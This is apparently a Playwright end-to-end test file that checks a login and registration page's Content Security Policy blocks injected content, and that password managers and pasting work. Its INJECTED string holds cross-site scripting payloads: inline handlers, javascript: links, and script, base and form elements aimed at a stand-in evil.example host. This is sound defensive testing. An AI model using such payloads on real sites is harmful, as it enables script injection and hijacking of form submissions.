"""What an injected element may do in a real browser: nothing (X02); and what a password manager may do: all (L22)."""

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.browsing import Faults

INJECTED = """
    window.hits = [];
    const added = (tag, attributes, text) => {
        const node = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
        if (text) node.textContent = text;
        document.body.append(node);
        return node;
    };
    const home = location.origin;
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"hits.push('handler')\\">");
    added("button", {onclick: "hits.push('click')", id: "evil"}).click();
    added("script", {}, "hits.push('inline')");
    added("script", {nonce: "guessed"}, "hits.push('guessed nonce')");
    added("script", {src: "data:text/javascript,hits.push('data')"});
    added("script", {src: "https://evil.example/x.js"});
    added("a", {href: "javascript:hits.push('address')"}).click();
    added("iframe", {src: `${home}/logowanie`});
    added("iframe", {srcdoc: "<script>parent.hits.push('frame')</script>"});
    added("object", {data: `${home}/logowanie`});
    added("base", {href: "https://evil.example/"});
    added("style", {}, "h1 { display: none }");
    added("p", {style: "position: fixed; inset: 0"}, "over everything");
    added("form", {action: "https://evil.example/", id: "theft"}).submit();
    // Later: while Playwright evaluates this, the debugger's protocol lets strings be run whatever the policy says.
    setTimeout(() => {
        try { eval("hits.push('eval')"); } catch {}
        try { new Function("hits.push('function')")(); } catch {}
        try { setTimeout("hits.push('timer')"); } catch {}
    });
"""
#: Answers what the browser has blocked, once it has been quiet for a moment.
WATCHED = """() => new Promise((done) => {
    const seen = new Set();
    document.addEventListener("securitypolicyviolation", (event) => {
        seen.add(event.effectiveDirective);
        clearTimeout(window.quiet);
        window.quiet = setTimeout(() => done([...seen]), 300);
    });
    INJECTED
})"""

#: Whether the heading is shown and nothing lies over it.
REACHABLE = """() => {
    const heading = document.querySelector("main h1");
    const { left, top } = heading.getBoundingClientRect();
    return heading.checkVisibility() && heading.contains(document.elementFromPoint(left + 2, top + 2));
}"""


@pytest.mark.requirement("SEC-02")
@pytest.mark.parametrize("path", ["/logowanie", "/rejestracja"])
def test_nothing_injected_runs_loads_or_shows_and_the_page_goes_on_x02(
    page: Page, faults: Faults, path: str
) -> None:
    faults.expect("Content Security Policy|violates|Refused|ERR_BLOCKED|frame|X-Frame|404")
    faults.expect("request to a strange host: https://evil.example")
    page.goto(path)
    expect(page.locator("html[data-live]")).to_be_attached()
    blocked = page.evaluate(WATCHED.replace("INJECTED", INJECTED))

    assert set(blocked) >= {
        "script-src-elem",
        "script-src-attr",
        "style-src-elem",
        "style-src-attr",
        "frame-src",
        "object-src",
        "base-uri",
        "form-action",
    }
    assert page.evaluate("window.hits") == []
    # By script: Playwright waits for the navigation of the form, which the browser has refused.
    assert page.evaluate(REACHABLE)
    assert page.evaluate("location.pathname") == path


@pytest.mark.requirement("LOGIN-01")
def test_password_managers_and_pasting_work_l22(page: Page) -> None:
    page.goto("/logowanie")

    login, password = page.get_by_label("Login", exact=True), page.get_by_label("Hasło", exact=True)
    expect(login).to_have_attribute("autocomplete", "username")
    expect(password).to_have_attribute("autocomplete", "current-password")
    expect(password).to_have_attribute("type", "password")
    for field in (login, password):
        refused = field.evaluate(
            """(field) => {
                const data = new DataTransfer();
                data.setData("text/plain", "x");
                const paste = new ClipboardEvent("paste", {clipboardData: data, bubbles: true, cancelable: true});
                return !field.dispatchEvent(paste) || field.readOnly || field.disabled;
            }"""
        )
        assert refused is False
